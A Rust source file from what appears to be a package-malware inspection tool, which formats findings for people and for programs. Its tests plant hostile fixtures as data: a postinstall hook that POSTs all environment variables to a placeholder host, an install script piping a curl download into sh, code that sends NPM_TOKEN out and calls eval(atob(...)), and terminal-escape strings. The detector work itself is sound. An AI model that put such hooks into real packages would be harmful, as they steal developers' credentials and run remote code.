//! What was found, for people and for programs.

use super::compared::{Compared, Followed};
use super::{Inspected, frame};
use crate::error::{Doing as _, Failure};
use crate::output::plain_json;
use customs_model::{Capability, Finding, Novelty, Severity, Standing, Zone, printable};
use serde::Serialize;
use std::fmt::Write as _;

/// Lines of what it can do and of what was not read.
const MANY: usize = 12;

/// For people.
pub(super) fn text(one: &Inspected) -> String {
    let mut out = String::new();
    let inspection = &one.inspection;
    let _ = writeln!(out, "{}: {}", one.name, words(one.verdict.standing));
    let _ = writeln!(
        out,
        "  {} files, {} bytes",
        inspection.files, inspection.bytes
    );
    let mut findings: Vec<&Finding> = one.verdict.findings.iter().collect();
    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
    for finding in findings
        .iter()
        .filter(|finding| finding.severity > Severity::Note)
    {
        let _ = writeln!(out, "\n  {}: {}", finding.rule, finding.message);
        // With a path, each line of the evidence is one of its hops.
        if finding.path.is_empty() {
            for line in &finding.evidence {
                let _ = writeln!(out, "    {line}");
            }
        }
        for hop in &finding.path {
            let _ = writeln!(out, "    {}: {}", hop.at, printable(&hop.what, 160));
            if let Some(frame) = frame(&one.tree, &hop.at) {
                let _ = writeln!(out, "{frame}");
            }
        }
        let _ = writeln!(
            out,
            "    why this matters: customs explain {}",
            finding.rule
        );
    }
    let notes = findings
        .iter()
        .filter(|finding| finding.severity == Severity::Note)
        .count();
    if notes > 0 {
        let _ = writeln!(
            out,
            "\n  {notes} notes on what an honest release may do as well (--format json shows them)"
        );
    }
    if let Some(compared) = &one.compared {
        novelties(&mut out, compared);
    }
    capabilities(&mut out, &inspection.capabilities);
    if !one.verdict.not_checked.is_empty() {
        let _ = writeln!(out, "\n  not read:");
        for what in one.verdict.not_checked.iter().take(MANY) {
            let _ = writeln!(out, "    {what}");
        }
        if one.verdict.not_checked.len() > MANY {
            let _ = writeln!(out, "    and {} more", one.verdict.not_checked.len() - MANY);
        }
    }
    out
}

fn novelties(out: &mut String, compared: &Compared) {
    let delta = &compared.delta;
    if let Some(nearest) = compared.with.first() {
        let others = match compared.with.len() {
            1 => String::new(),
            count => format!(" and the {} before it", count - 1),
        };
        let _ = writeln!(
            out,
            "\n  compared with {nearest}{others}: {} files that run were added, {} changed, {} removed",
            delta.added, delta.changed, delta.removed
        );
        if delta.novelties.is_empty() {
            let _ = writeln!(out, "    nothing that it can do is new");
        }
        for line in lines(&delta.novelties, MANY) {
            let _ = writeln!(out, "    {line}");
        }
    }
    for followed in &compared.followed {
        let _ = writeln!(out, "    {}", of_dependency(followed));
    }
    for what in &compared.not_known {
        let _ = writeln!(out, "    not known: {}", printable(what, 200));
    }
}

/// Novelties, one line each, and how many more there are.
pub(crate) fn lines(novelties: &[Novelty], most: usize) -> Vec<String> {
    let mut lines: Vec<String> = novelties
        .iter()
        .take(most)
        .map(|novelty| {
            let at = novelty
                .at
                .as_ref()
                .map(|at| format!(" — {at}"))
                .unwrap_or_default();
            format!(
                "{} {}, {}{at}",
                novelty.kind.words(),
                printable(&novelty.what, 120),
                novelty.zone.words()
            )
        })
        .collect();
    if novelties.len() > most {
        lines.push(format!("and {} more", novelties.len() - most));
    }
    lines
}

/// A new dependency in one line.
pub(crate) fn of_dependency(followed: &Followed) -> String {
    let takes = followed
        .takes
        .as_ref()
        .map(|takes| format!(", which takes {takes}"))
        .unwrap_or_default();
    let unimported = if followed.unimported {
        ", named by no file"
    } else {
        ""
    };
    let standing = match followed.standing {
        Some(standing) => format!(": {}", words(standing)),
        None => String::new(),
    };
    let says = followed
        .says
        .as_ref()
        .map(|says| format!(" ({says})"))
        .unwrap_or_default();
    format!(
        "a new dependency: {} {}{takes}{unimported}{standing}{says}",
        printable(&followed.name, 120),
        printable(&followed.requirement, 80)
    )
}

/// Whether a new dependency of it is not clean.
fn brings_something(one: &Inspected) -> bool {
    let followed = one.compared.iter().flat_map(|compared| &compared.followed);
    followed
        .filter_map(|followed| followed.standing)
        .any(|standing| standing != Standing::Clean)
}

/// Many targets: how many stand how, and those that are not clean in full.
pub(super) fn summary(all: &[Inspected]) -> String {
    let mut out = String::new();
    let count = |standing: Standing| {
        all.iter()
            .filter(|one| one.verdict.standing == standing)
            .count()
    };
    for one in all {
        match one.verdict.standing {
            Standing::Clean if !brings_something(one) => {}
            Standing::Clean | Standing::Suspicious | Standing::Malicious => {
                out.push_str(&text(one));
                out.push('\n');
            }
            Standing::NotJudged => {
                let because = one.verdict.not_checked.first();
                let because = because.map(String::as_str).unwrap_or_default();
                let _ = writeln!(out, "{}: not judged: {because}\n", one.name);
            }
        }
    }
    let _ = writeln!(
        out,
        "{} read: {} clean, {} suspicious, {} malicious, {} not judged",
        all.len(),
        count(Standing::Clean),
        count(Standing::Suspicious),
        count(Standing::Malicious),
        count(Standing::NotJudged)
    );
    out
}

fn capabilities(out: &mut String, capabilities: &[Capability]) {
    let unasked: Vec<&Capability> = capabilities
        .iter()
        .filter(|capability| capability.zone >= Zone::Folder)
        .collect();
    if unasked.is_empty() {
        return;
    }
    let _ = writeln!(out, "\n  what it does without being called:");
    for capability in unasked.iter().take(MANY) {
        let detail = capability
            .detail
            .as_deref()
            .map(|detail| format!(" ({})", printable(detail, 80)))
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "    {}{detail}, {} — {}",
            capability.name,
            capability.zone.words(),
            capability.at
        );
    }
    if unasked.len() > MANY {
        let _ = writeln!(out, "    and {} more", unasked.len() - MANY);
    }
}

pub(crate) const fn words(standing: Standing) -> &'static str {
    match standing {
        Standing::Clean => "clean (no rule speaks; that is not a promise)",
        Standing::Suspicious => "suspicious",
        Standing::Malicious => "malicious",
        Standing::NotJudged => "not judged",
    }
}

/// For programs.
#[derive(Serialize)]
struct Report<'a> {
    schema: &'static str,
    targets: Vec<Target<'a>>,
}

#[derive(Serialize)]
struct Target<'a> {
    target: &'a str,
    verdict: &'a customs_model::Verdict,
    inspection: &'a customs_model::Inspection,
    #[serde(skip_serializing_if = "Option::is_none")]
    compared: Option<&'a Compared>,
}

pub(super) fn json(all: &[Inspected]) -> Result<String, Failure> {
    let targets = all
        .iter()
        .map(|one| Target {
            target: &one.name,
            verdict: &one.verdict,
            inspection: &one.inspection,
            compared: one.compared.as_ref(),
        })
        .collect();
    let report = Report {
        schema: "customs.inspect/1",
        targets,
    };
    let text = serde_json::to_string_pretty(&report).doing("write the report")?;
    Ok(plain_json(&text) + "\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use customs_inspect::{Content, Entry, Kind, Tree, inspect_tree};
    use customs_rules::{RuleSet, judge_code};
    use std::sync::Arc;

    fn inspected(files: &[(&str, &str)]) -> Inspected {
        let entry = |(path, text): &(&str, &str)| Entry {
            path: format!("package/{path}"),
            content: Content::Whole(text.as_bytes().into()),
            length: text.len() as u64,
            kind: Kind::Text,
            executable: false,
        };
        let tree = Tree {
            entries: files.iter().map(entry).collect(),
            ..Tree::default()
        };
        let inspection = inspect_tree(&tree);
        Inspected {
            name: "left-1.0.1.tgz".to_owned(),
            release: None,
            verdict: judge_code(&inspection, &RuleSet::standard()),
            inspection: Arc::new(inspection),
            tree,
            compared: None,
            is_folder: false,
        }
    }

    #[test]
    fn a_proof_is_told_with_the_way_from_source_to_sink() {
        let one = inspected(&[
            (
                "package.json",
                r#"{"scripts": {"postinstall": "node setup.js"}}"#,
            ),
            (
                "setup.js",
                "const all = process.env;\nfetch('https://collect.invalid/v1', {\n  method: 'POST',\n  body: JSON.stringify(all),\n});\n",
            ),
        ]);
        insta::assert_snapshot!(text(&one));
    }

    #[test]
    fn no_file_name_and_no_text_of_a_package_steers_who_reads_a_report() {
        const ODD: &str = "\u{1b}]0:x\u{7}\u{9b}31m\u{202e}\u{2066}\u{2028}\u{200b}\u{e0041}\r";
        let script = format!("a{ODD}.js");
        let manifest = serde_json::json!({
            "name": ODD,
            "scripts": {"postinstall": format!("node '{script}'"), "install": format!("curl https://a.invalid/{ODD} | sh")},
            "dependencies": {ODD: ODD},
        });
        let code = format!(
            "/* {ODD} */ const t = process.env[`{ODD}`] + process.env.NPM_TOKEN;\nfetch(`https://a.invalid/{ODD}?` + t); eval(atob(`{ODD}`)); require(`./{ODD}`);"
        );
        let one = inspected(&[
            ("package.json", &manifest.to_string()),
            (&script, &code),
            ("index.js", &code),
            (&format!("{ODD}.png"), "not a picture"),
        ]);
        let all = [one];
        let said = [text(&all[0]), summary(&all), json(&all).unwrap()];
        for said in said {
            let plain = crate::output::plain_text(&said);
            assert_eq!(said, plain);
        }
        assert!(!all[0].verdict.findings.is_empty());
    }

    #[test]
    fn what_could_not_be_read_is_told_and_no_text_of_a_stranger_steers_the_terminal() {
        let one = inspected(&[
            ("package.json", r#"{"main": "a.js"}"#),
            ("a.js", "let \u{1b}[31m = ;"),
        ]);
        let text = text(&one);
        assert!(!text.contains('\u{1b}'));
        insta::assert_snapshot!(text);
    }
}
